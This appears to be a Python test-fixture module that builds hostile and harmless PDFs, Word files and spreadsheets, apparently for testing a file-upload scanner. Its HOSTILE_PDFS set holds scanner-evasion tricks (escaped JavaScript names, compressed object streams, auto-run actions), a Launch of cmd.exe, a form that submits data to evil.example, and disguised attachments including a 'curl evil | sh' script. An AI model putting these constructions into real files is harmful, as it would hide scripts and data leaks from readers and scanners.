"""Hostile and honest files built in the tests themselves: PDFs written object by object (so each
evasion is exactly what it says), Office files and archives written with zipfile."""

import io
import zipfile
import zlib

from fpdf import FPDF
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject

from tests.support.forms import build_pdf

# A Windows program's first bytes: DOS header pointing at a PE header.
WINDOWS_PROGRAM = (
    b"MZ\x90\x00" + b"\x00" * 56 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200
)
CATALOG = b"/Type /Catalog /Pages 2 0 R"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + b" >>"


def pdf_with(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """A one-page PDF; objects 4, 5, ... are `more`."""
    return build_pdf([b"<< " + CATALOG + b" " + catalog_extra + b" >>", PAGES, page(page_extra), *more])


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A FlateDecode stream object's body: compressed, its content is invisible to a raw-bytes match."""
    packed = zlib.compress(data)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n" % (len(packed), entries) + packed + b"\nendstream"


def pdf_in_object_stream(objects: list[bytes]) -> bytes:
    """PDF 1.5: objects 1..n packed in one compressed object stream, found through a compressed
    cross-reference stream (what Word and most modern writers produce)."""
    count = len(objects)
    body, pairs = b"", []
    for number, obj in enumerate(objects, start=1):
        pairs.append(b"%d %d" % (number, len(body)))
        body += obj + b"\n"
    head = b" ".join(pairs) + b"\n"
    packed = zlib.compress(head + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    object_stream_at = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        count + 1, count, len(head), len(packed),
    ) + packed + b"\nendstream\nendobj\n"  # fmt: skip
    xref_at = len(out)
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    rows += [b"\x02" + (count + 1).to_bytes(4, "big") + index.to_bytes(2, "big") for index in range(count)]
    rows += [b"\x01" + object_stream_at.to_bytes(4, "big") + bytes(2), b"\x01" + xref_at.to_bytes(4, "big") + bytes(2)]
    table = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
        count + 2, count + 3, len(table),
    ) + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at  # fmt: skip
    return bytes(out)


def pdf_with_attachment(name: bytes, content: bytes) -> bytes:
    """A file attachment annotation on the page; its stream compressed and without /Type (both allowed)."""
    annotation = b"<< /Type /Annot /Subtype /FileAttachment /Rect [50 50 70 70] /FS 5 0 R >>"
    file_spec = b"<< /Type /Filespec /F (" + name + b") /UF (" + name + b") /EF << /F 6 0 R >> >>"
    return pdf_with(b"", b"/Annots [4 0 R]", annotation, file_spec, stream(content))


HOSTILE_PDFS = {
    # /S /JavaScript and /JS written with #xx escapes: a reader decodes them, a raw match does not.
    "escaped name": pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    # The script is a string in another object, pointed at by a Rendition action.
    "indirect JS": pdf_with(
        b"",
        b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Rendition /OP 4 /JS 5 0 R >> >>",
        b"(app.launchURL\\('https://evil.example/'\\))",
    ),  # fmt: skip
    # Everything in a compressed object stream: no name of it is in the file's bytes.
    "object stream": pdf_in_object_stream(
        [
            b"<< " + CATALOG + b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
            PAGES,
            page(),
        ]
    ),  # fmt: skip
    "XFA form": pdf_with(
        b"/AcroForm << /Fields [] /XFA 4 0 R >>",
        b"",
        stream(
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>'
        ),
    ),
    "JavaScript name tree": pdf_with(
        b"/Names << /J#61vaScript 4 0 R >>",
        b"",
        b"<< /Names [(hello) 5 0 R] >>",
        b"<< /S /J#61vaScript /J#53 6 0 R >>",
        stream(b"app.alert(1)"),
    ),  # fmt: skip
    "Launch action": pdf_with(
        b"",
        b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /L#61unch /F (cmd.exe) >> >>",
    ),  # fmt: skip
    # An address opened by itself when the page opens (a beacon, or a share that leaks credentials).
    "AA on a page": pdf_with(b"", b"/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>"),
    # A widget that sends the form's content away as soon as the pointer enters it.
    "AA on an annotation": pdf_with(
        b"/AcroForm << /Fields [4 0 R] >>",
        b"/Annots [4 0 R]",
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [50 700 300 720] /P 3 0 R"
        b" /AA << /E << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >> >>",
    ),  # fmt: skip
    "AA on a form field running a script from an object stream": pdf_in_object_stream(
        [
            b"<< " + CATALOG + b" /AcroForm << /Fields [4 0 R] >> >>",
            PAGES,
            page(b"/Annots [4 0 R]"),
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [50 700 300 720] /P 3 0 R"
            b" /AA << /K << /S /JavaScript /JS (this.submitForm\\('https://evil.example'\\)) >> >> >>",
        ]
    ),  # fmt: skip
    "embedded exe": pdf_with_attachment(b"invoice.exe", WINDOWS_PROGRAM),
    "embedded program under an innocent name": pdf_with_attachment(b"invoice.txt", WINDOWS_PROGRAM),
    "embedded script": pdf_with_attachment(b"update.vbs", b'CreateObject("WScript.Shell").Run "calc"'),
    "embedded shell script under an innocent name": pdf_with_attachment(b"readme", b"#!/bin/sh\ncurl evil | sh\n"),
}


def text_pdf(link: str | None = None) -> bytes:
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text="Proof of income, March 2026", link=link or "")
    return bytes(document.output())


def scanned_pdf() -> bytes:
    """One page that is a photograph, as a scanner or a phone makes."""
    picture = Image.new("RGB", (600, 800), "white")
    picture.paste((30, 30, 30), (100, 100, 500, 140))
    buffer = io.BytesIO()
    picture.save(buffer, format="JPEG")
    document = FPDF()
    document.add_page()
    document.image(io.BytesIO(buffer.getvalue()), x=0, y=0, w=210)
    return bytes(document.output())


def fillable_form_pdf() -> bytes:
    """A form with a text field and a check box, no script; opens at the first page."""
    return pdf_with(
        b"/AcroForm << /Fields [4 0 R 5 0 R] /NeedAppearances true /DA (/Helv 0 Tf 0 g) >> /OpenAction [3 0 R /Fit]",
        b"/Annots [4 0 R 5 0 R]",
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (full_name) /Rect [50 700 300 720] /P 3 0 R"
        b" /DA (/Helv 12 Tf 0 g) >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (agree) /Rect [50 650 65 665] /P 3 0 R /V /Off /AS /Off >>",
    )


def pdf_a3_invoice() -> bytes:
    """A PDF/A-3 invoice with its structured XML (Factur-X/ZUGFeRD style) attached."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    xml = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<rsm:CrossIndustryInvoice'
        b' xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">'
        b"<rsm:ExchangedDocument><ram:ID xmlns:ram='urn:x'>INV-2026-7</ram:ID></rsm:ExchangedDocument>"
        b"</rsm:CrossIndustryInvoice>"
    )
    attachment = writer.add_attachment("factur-x.xml", xml)
    file_spec = attachment.pdf_object
    file_spec[NameObject("/AFRelationship")] = NameObject("/Data")
    writer.root_object[NameObject("/AF")] = ArrayObject([file_spec.indirect_reference])
    writer.root_object[NameObject("/MarkInfo")] = DictionaryObject({NameObject("/Marked"): NameObject("/true")})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- Office Open XML and archives ---------------------------------------------------------------
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def zip_of(parts: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def content_types(main: str, main_part: str, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main}"/>{extra}</Types>'
    )


def relationships(*entries: tuple) -> str:
    """entries: (id, type, target, external?)"""
    rows = "".join(
        f'<Relationship Id="{rid}" Type="{OFFICE_RELATIONSHIP}{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in entries
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">{rows}</Relationships>'


def docx(body: str = "<w:p><w:r><w:t>نص السياسة</w:t></w:r></w:p>", *, document_rels=(), settings_rels=(),
         extra_parts=None, extra_types: str = "", main: str = WORD_MAIN) -> bytes:  # fmt: skip
    parts = {
        "[Content_Types].xml": content_types(main, "word/document.xml", extra_types),
        "_rels/.rels": relationships(("rId1", "officeDocument", "word/document.xml", False)),
        "word/document.xml": f'<?xml version="1.0"?><w:document {W} {R}><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": relationships(*document_rels),
    }
    if settings_rels:
        parts["word/settings.xml"] = (
            f'<?xml version="1.0"?><w:settings {W} {R}><w:attachedTemplate r:id="rId1"/></w:settings>'
        )
        parts["word/_rels/settings.xml.rels"] = relationships(*settings_rels)
    parts.update(extra_parts or {})
    return zip_of(parts)


def xlsx(sheet: str = '<c r="A1"><v>1</v></c>', extra_parts=None) -> bytes:
    parts = {
        "[Content_Types].xml": content_types(XLSX_MAIN, "xl/workbook.xml"),
        "_rels/.rels": relationships(("rId1", "officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": (
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
            f' {R}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": relationships(("rId1", "worksheet", "worksheets/sheet1.xml", False)),
        "xl/worksheets/sheet1.xml": (
            '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<sheetData><row r="1">{sheet}</row></sheetData></worksheet>'
        ),
    }
    parts.update(extra_parts or {})
    return zip_of(parts)


OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
